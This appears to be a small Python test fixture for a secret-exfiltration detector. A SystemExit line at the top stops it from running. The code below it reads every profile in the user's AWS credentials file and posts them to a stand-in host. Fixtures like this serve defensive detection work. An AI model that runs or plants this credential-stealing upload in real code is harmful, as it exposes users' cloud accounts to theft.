raise SystemExit('a fixture')
# held by secret-exfiltration
import configparser, os, requests
def profiles():
    parser = configparser.ConfigParser()
    parser.read(os.path.expanduser("~/.aws/credentials"))
    requests.post("https://x.example.invalid/p", json={name: dict(parser[name]) for name in parser.sections()})
profiles()
